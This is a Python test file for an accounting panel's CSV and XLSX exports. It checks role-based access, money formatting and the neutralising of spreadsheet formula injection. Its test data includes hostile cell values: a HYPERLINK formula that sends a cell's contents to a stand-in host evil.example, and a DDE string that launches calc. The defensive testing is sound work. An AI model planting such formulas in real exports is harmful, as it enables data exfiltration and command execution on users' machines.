"""CSV and XLSX exports over HTTP: the client list as filtered (an accountant's own clients
only), bills and arrears (admins), Chinese headers, money as yuan with two decimals, a BOM
on CSV, and no formula injection: a name or tag that begins like a formula is exported as
text in both formats."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from admin_web.exports import csv_bytes, neutralise, xlsx_bytes
from domain import payments
from domain.actors import Actor
from storage.uow import SqlUnitOfWork
from tests.support.panel import ADMIN, ADMIN_PASSWORD, LI, STAFF_PASSWORD, WANG, Panel

QINGHE = "杭州青禾餐饮管理有限公司"
YUNFAN = "杭州云帆科技有限公司"
MINGYUAN = "杭州明远贸易有限公司"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL_TAGS = ("+1+cmd|' /C calc'!A0", "@SUM(1+1)")
HOSTILE = ("=1+1", "+1", "-1+1", "@A1", "\tx", "\rx", " =1+1", "＝1+1")


async def seed_evil_client(panel: Panel) -> None:
    """A client of 王会计 whose name and tags are formulas."""
    async with SqlUnitOfWork(panel.sessions) as uow:
        firm = await uow.identities.firm_by_appid(panel.chat.settings.wechat_appid)
        assert firm is not None
        wang = await uow.identities.staff_by_name(firm.id, WANG)
        assert wang is not None
        company = await uow.identities.add_company(firm.id, EVIL_NAME, wang.id)
        for name in EVIL_TAGS:
            tag = await uow.tags.add(firm.id, name, "")
            assert tag is not None
            await uow.tags.tag([company.id], tag.id)
        await uow.commit()


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"))))


async def get_bytes(browser: object, path: str) -> tuple[int, bytes, object]:
    b = browser
    async with b.http.get(b.url(path), allow_redirects=False) as r:  # type: ignore[attr-defined]
        return r.status, await r.read(), r.headers


def test_every_formula_start_is_neutralised_in_csv_and_xlsx() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    assert neutralise("杭州青禾") == "杭州青禾" and neutralise("") == ""
    rows = [[t] for t in HOSTILE]
    got = read_csv(csv_bytes(["名称"], rows))
    assert [r[0] for r in got[1:]] == ["'" + t for t in HOSTILE]
    book = load_workbook(io.BytesIO(xlsx_bytes("表", ["名称"], rows)))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    assert [c.value for c in cells] == [
        "'" + t.replace("\r", "\n") for t in HOSTILE
    ]  # XML reads CR as LF
    assert {c.data_type for c in cells} == {"s"}
    # Control characters XLSX cannot hold are dropped, not a crash.
    book = load_workbook(io.BytesIO(xlsx_bytes("表", ["名称"], [["a\x00b\x1fc"]])))
    assert book.active["A2"].value == "abc"


async def test_an_accountant_exports_only_their_own_clients_formula_safe(panel: Panel) -> None:
    await seed_evil_client(panel)
    wang = await panel.logged_in(WANG, STAFF_PASSWORD)
    li_id = await staff_id(panel, LI)
    # Asking for 李会计's clients changes nothing: an accountant's list is their own.
    status, body, headers = await get_bytes(wang, f"/clients/export.csv?accountant={li_id}")
    assert status == 200
    assert headers["Content-Type"].startswith("text/csv")  # type: ignore[index]
    assert "attachment" in headers["Content-Disposition"]  # type: ignore[index]
    rows = read_csv(body)
    assert rows[0] == ["客户名称", "专属会计", "标签", "联系人数", "办理中业务"]
    names = {r[0] for r in rows[1:]}
    assert names == {QINGHE, MINGYUAN, "'" + EVIL_NAME}
    evil = next(r for r in rows[1:] if EVIL_NAME in r[0])
    assert evil[1] == WANG and evil[2].startswith("'")

    status, body, headers = await get_bytes(wang, "/clients/export.xlsx")
    assert status == 200
    assert "spreadsheetml" in headers["Content-Type"]  # type: ignore[index]
    sheet = load_workbook(io.BytesIO(body)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["客户名称", "专属会计", "标签", "联系人数", "办理中业务"]
    assert {v[0] for v in values[1:]} == {QINGHE, MINGYUAN, "'" + EVIL_NAME}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


async def test_an_admin_exports_the_list_as_filtered(panel: Panel) -> None:
    admin = await panel.logged_in(ADMIN, ADMIN_PASSWORD)
    status, body, _ = await get_bytes(admin, "/clients/export.csv")
    assert status == 200
    assert {r[0] for r in read_csv(body)[1:]} == {QINGHE, YUNFAN, MINGYUAN}
    li_id = await staff_id(panel, LI)
    _, body, _ = await get_bytes(admin, f"/clients/export.csv?accountant={li_id}")
    assert [r[0] for r in read_csv(body)[1:]] == [YUNFAN]
    _, body, _ = await get_bytes(admin, "/clients/export.xlsx?q=明远")
    sheet = load_workbook(io.BytesIO(body)).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [MINGYUAN]
    # The list links to the same export with its filters.
    _, page, _ = await admin.get(f"/clients?q=明远&accountant={li_id}")
    assert f"/admin/clients/export.csv?q=%E6%98%8E%E8%BF%9C&amp;accountant={li_id}" in page


async def staff_id(panel: Panel, name: str) -> int:
    async with SqlUnitOfWork(panel.sessions) as uow:
        firm = await uow.identities.firm_by_appid(panel.chat.settings.wechat_appid)
        assert firm is not None
        staff = await uow.identities.staff_by_name(firm.id, name)
        assert staff is not None
        return staff.id


async def test_bills_export_money_as_yuan_with_two_decimals(panel: Panel) -> None:
    await seed_evil_client(panel)
    async with SqlUnitOfWork(panel.sessions) as uow:
        firm = await uow.identities.firm_by_appid(panel.chat.settings.wechat_appid)
        assert firm is not None
        evil = next(c for c in await uow.identities.list_companies(firm.id) if c.name == EVIL_NAME)
        bill = await payments.add_one_off_bill(
            uow, Actor.system(firm.id), evil.id, "-1+1 代开", 123405, panel.now()
        )
        await uow.commit()
    admin = await panel.logged_in(ADMIN, ADMIN_PASSWORD)
    status, body, _ = await get_bytes(admin, "/money/bills/export.csv?state=unpaid")
    assert status == 200
    rows = read_csv(body)
    assert rows[0][:5] == ["账单号", "客户", "内容", "金额（元）", "状态"]
    line = next(r for r in rows if r[0] == bill.number)
    assert line[1:5] == ["'" + EVIL_NAME, "'-1+1 代开", "1234.05", "待付"]
    assert all(r[4] in ("待付", "已逾期") for r in rows[1:])

    _, body, _ = await get_bytes(admin, "/money/bills/export.xlsx?q=HYPERLINK")
    sheet = load_workbook(io.BytesIO(body)).active
    (row,) = list(sheet.iter_rows(min_row=2))
    assert row[0].value == bill.number and row[1].value == "'" + EVIL_NAME
    assert Decimal(str(row[3].value)) == Decimal("1234.05") and row[3].number_format == "#,##0.00"
    assert all(c.data_type != "f" for c in row)

    # Accountants have no money exports.
    wang = await panel.logged_in(WANG, STAFF_PASSWORD)
    for path in ("/money/bills/export.csv", "/money/arrears/export.xlsx"):
        assert (await get_bytes(wang, path))[0] == 403


async def test_anonymous_exports_go_to_the_login(panel: Panel) -> None:
    visitor = await panel.browser()
    for path in ("/clients/export.csv", "/money/bills/export.xlsx", "/money/arrears/export.csv"):
        status, body, headers = await get_bytes(visitor, path)
        assert status == 303 and b"\xef\xbb\xbf" not in body
        assert headers["Location"].startswith("/admin/login?next=")  # type: ignore[index]
